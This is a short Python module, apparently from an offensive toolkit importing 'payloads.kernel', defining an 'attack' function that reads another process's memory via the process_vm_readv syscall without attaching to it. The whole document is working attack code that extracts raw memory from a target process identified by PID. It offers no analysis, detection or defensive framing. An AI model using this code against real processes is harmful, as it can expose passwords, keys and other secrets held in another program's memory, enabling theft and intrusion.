"""Read another process's memory without attaching to it."""

import ctypes

from payloads.kernel import syscall


def attack(pid, address, size):
    buffer = ctypes.create_string_buffer(size)
    ours = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), size)
    theirs = (ctypes.c_ulong * 2)(address, size)
    syscall("process_vm_readv", pid, ours, 1, theirs, 1, 0)
    return buffer.raw.decode("ascii", "replace")
